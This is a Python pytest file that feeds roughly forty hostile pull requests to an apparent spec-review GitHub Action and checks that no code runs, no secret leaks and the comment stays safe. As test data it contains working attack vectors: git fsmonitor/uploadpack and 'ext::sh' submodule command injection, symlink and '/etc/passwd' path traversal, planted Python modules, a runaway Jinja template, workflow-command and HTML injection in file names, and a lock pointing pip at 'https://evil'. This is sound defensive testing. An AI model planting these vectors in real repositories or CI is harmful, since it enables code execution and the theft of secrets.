"""Thirty hostile pull requests go through the steps of the Action. None of their code runs, nothing outside of the
repository is read, no step hangs, and the comment still shows every honest change.
"""

from __future__ import annotations

import json
import os
import random
import re
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest
from compile_support import put
from git_commands import branch_off, git

from xpc.compiler.review.pull_request import MARKER

pytestmark = pytest.mark.slow

HERE = os.path.dirname(os.path.abspath(__file__))
SECRET = "zq7secret"
MARK = "zq7pwned"
RUN = f"touch {MARK}"
HOUSE = "xpc 1\n\nprecision bf16\n\nhardware 1 x h100-80gb\n\nbatch {\n  gbs = 16\n  micro = 4\n  seq = 512\n}\n"
SPEC = 'xpc 1\n\nextends "../house.xp"\n\ntrain qwen2.5-0.5b-instruct on alpaca for 1 epochs\n\nsave "out/a"\n'
ROW = '{"messages": [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}]}\n'
CODE = f"open({MARK!r}, 'w').write('{MARK}')\n"
SECONDS = 300
"""The limit of CPU seconds for all steps of one pull request. The slowest pull request takes 6 CPU seconds on an idle
machine. An attack against which these tests guard takes hours.
"""


def named(name: str, text: str = SPEC) -> Callable[[Path], None]:
    return lambda root: put(root, {name: text})


def link(name: str, target: str, text: str = "") -> Callable[[Path], None]:
    def make(root: Path) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target.format(root=root))
        if text:
            put(root, {"specs/reads.xp": text})

    return make


def spec(*lines: str, data: str = "alpaca", save: str = "out/x") -> str:
    more = "".join(f"\n{line}\n" for line in lines)
    return SPEC.replace("alpaca", data).replace("out/a", save) + more


def bare(root: Path) -> None:
    config = (
        f"[core]\n\trepositoryformatversion = 1\n\tfsmonitor = {RUN}\n\tbare = true\n[extensions]\n\tpartialClone = e\n"
        f'[remote "e"]\n\turl = .\n\tuploadpack = {RUN}; false\n\tpromisor = true\n'
    )
    put(root / "specs", {"HEAD": "1234567890" * 4, "objects/kept": "", "refs/heads/main": "", "config": config})


def many(root: Path) -> None:
    put(root, {f"specs/n{number:04}.xp": spec(save=f"out/{number}") for number in range(300)})


def random_lines(letters: int, alphabet: str, seed: int = 1) -> str:
    """Lines with one random letter each. They are the same in every run."""
    return "\n".join(random.Random(seed).choices(alphabet, k=letters // 2))


def shuffled(root: Path) -> None:
    """Write new specs. Their comments are the comments of the old specs in another order, so comparing every new spec
    with every old spec would take minutes.
    """
    for number in range(12):
        text = (root / f"specs/long{number}.xp").read_text()
        (root / f"specs/long{number}.xp").unlink()
        put(root, {f"specs/new{number}.xp": "\n".join(text.removesuffix(SPEC).split("\n")[::-1]) + f"\n{SPEC}"})


COMMENTS = {f"specs/long{n}.xp": re.sub("(.)", r"\1#", random_lines(10_000, "\t ", n)) + f"\n{SPEC}" for n in range(12)}
RENAMES, PREVIEW = "renames of specs that are the same lines in another order", "megabytes of preview lines that repeat"
MIXED = "values of every kind"
MANY = "".join(map(chr, range(0x4E00, 0x4E00 + 150)))
NAMES = {
    "a name that is an option": ("specs/-o.xp", spec(save="out/o")),
    "a name that is another option": ("specs/--allow-oom.xp", spec(save="out/oom")),
    "a name with a line that is a command": ("specs/a\n::error::x.xp", spec(save="out/n")),
    "a name with an old command": ("specs/##[stop-commands]x.xp", spec(save="out/n")),
    "a name of escapes": ("specs/\x1b[2J\u202e.xp", spec(save="out/n")),
    "a name of markup": ("specs/<img src=x onerror=alert(1)> @team.xp", spec(save="out/n")),
    "a name that is not text": ("specs/" + os.fsdecode(b"\xff\xfe.xp"), spec(save="out/n")),
}  # fmt: skip
"""New specs with hostile names."""
VALUES = {
    "a comment with a command": SPEC + "\nsed 8 # ##[stop-commands]x\n",
    "a line that is a command": "::stop-commands::x\n" + SPEC,
    "a value with a command": spec('track wandb(name="##[add-mask]a")'),
    "a value that closes the fence": spec('track wandb(name="``` </details> ~~~ ```` @team")'),
    "a value with the marker": spec(f'track wandb(name="{MARKER}")'),
    "a value that is a link": spec('track wandb(name="[x](http://evil) ![](http://evil)")'),
    "a value of escapes": spec('track wandb(name="\\u001b]0;x\\u0007")'),
    "a value of 10,000 letters": spec(f'track wandb(name="{"x" * 10_000}")'),
}  # fmt: skip
"""Hostile texts, each of which replaces the text of an old spec."""


def changed(texts: Iterable[str]) -> dict[str, str]:
    """A spec for each of the texts."""
    return {f"specs/changed{number}.xp": text for number, text in enumerate(texts)}


BASE = {
    RENAMES: COMMENTS,
    MIXED: changed([SPEC] * len(VALUES)),
    PREVIEW: {"specs/rows.preview": random_lines(10**6, MANY)},
}
"""Files of the repository before the pull request."""
MODULES = ("json.py", "sitecustomize.py", "html.py", "argparse.py", "xpc/__init__.py", "lark.py")
TEMPLATE = 'model(chat_template=file("t.jinja"))'
LOOP = "{% for a in range(10**9) %}{{ a.__class__.__mro__ }}{% endfor %}"
REWARD = 'method grpo { rewards = ["r.py:f"], generations = 4 }'
CHILD = 'xpc 1\n\nextends "a.xp"\n'
NUMBERS = ", ".join(map(str, range(100)))
SWEEP = f"sweep {{\n  seed = [{NUMBERS}]\n  warmup = [{NUMBERS}]\n  eval.every = [{NUMBERS}]\n}}"
LOCK = (
    '[lock]\nformat = 1\nxpc = "1"\ntarget = "trl-1.16"\n[environment."requirements.txt"]\nasked = []\n'
    'resolved = ["jinja2==3.1.6\\n--index-url https://evil"]\n'
)
EVIL = {
    "names of every kind": lambda root: put(root, dict(NAMES.values())),
    MIXED: lambda root: put(root, changed(VALUES.values())),
    "a folder that looks like a repository": bare,
    "attributes with filters": named(".gitattributes", "* diff=evil filter=evil merge=evil\n"),
    "modules of Python": lambda root: put(root, dict.fromkeys(MODULES, CODE)),
    "a spec that is a link to a secret": link("specs/a.xp", "{root}/../secret.xp"),
    "a spec that is a link to a device": link("specs/z.xp", "/dev/zero"),
    "a base that is a link to a secret": link("specs/base.xp", "{root}/../secret", SPEC.replace("../house", "base")),
    "a template that is a link": link("specs/t.jinja", "{root}/../secret", spec(TEMPLATE)),
    "rows that are a link": link("specs/r.jsonl", "{root}/../secret", spec(data='"r.jsonl"')),
    "a folder of rows in a circle": link("specs/rows/rows", "..", spec(data='"rows"')),
    "a base outside": named("specs/a.xp", SPEC.replace("../house.xp", "../../../../../etc/passwd")),
    "an absolute base": named("specs/a.xp", SPEC.replace("../house.xp", "/etc/passwd")),
    "bases in a circle": lambda root: put(root, {"specs/a.xp": SPEC.replace("../house", "b"), "specs/b.xp": CHILD}),
    "twenty bases": lambda root: put(root, {f"specs/b{n}.xp": f'xpc 1\n\nextends "b{n + 1}.xp"\n' for n in range(20)}),
    "a manifest that hides the specs": lambda root: put(root, {"specs/bundle.toml": "", "specs/sweep.toml": ""}),
    "a spec of 20 MiB": named("specs/z.xp", SPEC + "# x\n" * 5 * 2**20),
    "a spec of brackets": named("specs/z.xp", SPEC + "method { rewards = " + "[" * 20_000 + "\n"),
    "a spec of NUL": named("specs/z.xp", "train\0\0\0" * 1000),
    "a spec in UTF-16": lambda root: (root / "specs" / "z.xp").write_bytes(SPEC.encode("utf-16")),
    "3,000 errors": named("specs/z.xp", SPEC + "".join(f"sed{n} {n}\n" for n in range(3000))),
    "a sweep of a million": named("specs/z.xp", spec(SWEEP)),
    "300 new specs": many,
    "a reward that runs": lambda root: put(root, {"specs/r.py": CODE, "specs/z.xp": spec(REWARD)}),
    "a template that loops": lambda root: put(root, {"specs/t.jinja": LOOP, "specs/z.xp": spec(TEMPLATE)}),
    "a model with code": lambda root: put(root, {
        "specs/m/config.json": '{"model_type": "qwen2", "auto_map": {"AutoModel": "x.Y"}}', "specs/m/x.py": CODE,
        "specs/z.xp": SPEC.replace("qwen2.5-0.5b-instruct", '"m"'),
    }),
    "a lock with lines": named("specs/a.xp.lock", LOCK),
    "a lock that is a folder": named("specs/a.xp.lock/x", "x"),
    "a submodule that runs": named(".gitmodules", f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "{RUN}"\n'),
    "a golden preview of commands": named("specs/a.preview", "::error::x\n##[stop-commands]x\n```\n</details>\n" * 100),
    PREVIEW: lambda root: put(root, {"specs/rows.preview": random_lines(10**6, MANY, 2)}),
    RENAMES: shuffled,
    "everything deleted": lambda root: shutil.rmtree(root / "specs"),
}  # fmt: skip


@pytest.fixture
def repository(tmp_path: Path, what: str) -> Path:
    root = tmp_path / "work"
    put(root, {"house.xp": HOUSE, "specs/a.xp": SPEC, "specs/rows.jsonl": ROW})
    put(root, {"specs/honest.xp": SPEC.replace("out/a", "out/honest"), **BASE.get(what, {})})
    put(tmp_path, {"secret": SECRET, "secret.xp": f"train {SECRET} on {SECRET}\n"})
    branch_off(root)
    return root


def test_there_are_forty() -> None:
    assert len({**EVIL, **NAMES, **VALUES}) >= 40


@pytest.mark.parametrize("what", EVIL)
def test_a_hostile_pull_request_does_no_harm(what: str, repository: Path) -> None:
    put(repository, {"house.xp": HOUSE.replace("gbs = 16", "gbs = 32")})
    EVIL[what](repository)
    git(repository, "add", "-A", "-f")
    git(repository, "commit", "-qm", "two")
    # git, started in this folder, would run the command in its configuration
    if what == "a folder that looks like a repository":
        shutil.copy(repository / "specs" / "config", repository / "specs" / "config.kept")
    command = [sys.executable, "-P", os.path.join(HERE, "audited_review.py"), str(repository)]
    limit = (SECONDS, SECONDS)
    temporary = repository.parent / "temporary"
    temporary.mkdir()
    done = subprocess.run(
        command, capture_output=True, text=True, check=False, cwd=repository, timeout=3600,
        env={**os.environ, "TMPDIR": str(temporary), "PYTHONPATH": os.pathsep.join([HERE, *filter(None, sys.path)])},
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, limit),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    found = json.loads(done.stdout)
    # Rows may be read from anywhere, so a link to any file is followed. But no text of a row is quoted.
    rows = f"open of {repository.parent / 'secret'} " if what == "rows that are a link" else "nothing"
    assert [one for one in found["findings"] if not one.startswith(rows)] == []
    assert not list(repository.rglob(MARK))
    assert not found["failed"], found["failed"]
    assert found["status"] in (0, 1, 2)
    text, printed = found["comment"], found["output"]
    for one in (text, printed):
        assert SECRET not in one
        assert "Traceback" not in one
        assert all(each.isprintable() or each == "\n" for each in one)
    for line in printed.splitlines():
        assert "##[" not in line
        own = line.startswith(("::error ", "::warning ", "::notice ")) or line.count("::") == 1  # ` ::: base.xp:3:7`
        assert not line.lstrip().startswith("::") or own
    check_comment(text)
    if what != "everything deleted":
        assert "16 -&gt; 32" in text
        assert "honest.xp" in text or "more" in text
    if what == MIXED:
        assert [name for name in changed(VALUES) if os.path.basename(name) not in text] == []


def check_comment(text: str) -> None:
    """Check the comment on the pull request: it is short enough, and outside of code fences, no text of the pull
    request acts as markup.
    """
    assert len(text) < 65_536
    assert text.startswith(f"{MARKER}\n")
    assert sum(line.strip() == MARKER for line in text.splitlines()) == 1
    outside, fence = [], ""
    for line in text.splitlines()[1:]:
        if fence:
            fence = "" if line == fence else fence
        elif line.startswith("```"):
            fence = line.removesuffix("text")
        else:
            outside.append(line)
    assert not fence
    rest = "\n".join(outside).replace("<details><summary>", "").replace("</summary>", "").replace("</details>", "")
    assert not [one for one in "<>@`[]" if one in rest], rest
    assert "\n".join(outside).count("<details>") == "\n".join(outside).count("</details>")
